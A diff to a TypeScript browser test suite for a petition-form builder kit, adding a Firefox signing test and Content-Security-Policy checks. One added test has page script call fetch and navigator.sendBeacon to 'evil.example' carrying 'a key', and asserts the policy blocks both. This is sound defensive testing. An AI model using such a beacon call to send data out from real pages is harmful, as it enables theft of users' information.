@@ -10,7 +10,9 @@ import { serve } from '../support/browser.ts';
 import { petitionPath } from '../support/services/action-network.ts';
 import { formPath } from '../support/services/google-forms.ts';
 import { builderWords as sentence, words } from '../support/words.ts';
+import { until } from '../support/until.ts';
 import type { Organiser } from './support/builder.ts';
+import { engines } from './support/engines.ts';
 import { kinds } from './support/kinds.ts';
 import { useKit } from './support/kit.ts';
 import { pageFaults } from './support/page-faults.ts';
@@ -74,7 +76,9 @@ for (const [name, { real }] of Object.entries(services))
     t.after(() => {
       kit.isOpen = false;
     });
-    const { organiser } = await written(t, name);
+    const writing = await written(t, name);
+    const { organiser } = writing;
+    assert.deepEqual(await writing.violations(), []);
     assert.equal(await organiser.page.$('#way-tag'), null);
     assert.doesNotMatch(await organiser.text('#result'), /server/i);
     const code = await organiser.copied('[aria-labelledby="way-in-page-name"] button');
@@ -219,13 +223,32 @@ test('the mark leads to what to read first, from there to the builder, and the e
   );
 });
 
+test('in Firefox too the example is signed', async (t) => {
+  const reader = await engines.Firefox(t);
+  await reader.goto(`${kit.origin}/our/kit/example.html`);
+  await reader.signs({ name: 'Ada', email: 'ada@mail.example' });
+});
+
+test('a script that gets into the builder can send nothing to others', async (t) => {
+  const visit = await kit.build(t);
+  await visit.page.evaluate(async (elsewhere) => {
+    await fetch(elsewhere).catch(() => undefined);
+    navigator.sendBeacon(elsewhere, 'a key');
+  }, 'https://evil.example/');
+  await until('both are refused', async () => (await visit.violations()).length === 2);
+  assert.deepEqual(await visit.violations(), ['connect-src', 'connect-src']);
+});
+
 test('opened from a folder by a double click, the builder writes, warns, and gives what works with the public copy', async (t) => {
   const address = `file://${join(kit.folder, 'builder', 'index.html')}`;
-  const { organiser } = await kit.build(t, { address });
+  const visit = await kit.build(t, { address });
+  const { organiser } = visit;
   await write(organiser);
   await organiser.choose('endpoint-kind', 'formspree');
   await organiser.fill('endpoint-url', 'https://formspree.io/f/xyzabcde');
   await organiser.says(sentence('from-file'), '#unreachable');
+  await visit.widget().says('Keep the library open');
+  assert.deepEqual(await visit.violations(), []);
   await organiser.press('#use-copy');
   assert.match(await organiser.snippet('in-page'), /cdn\.jsdelivr\.net.*integrity="sha384-/);
 });
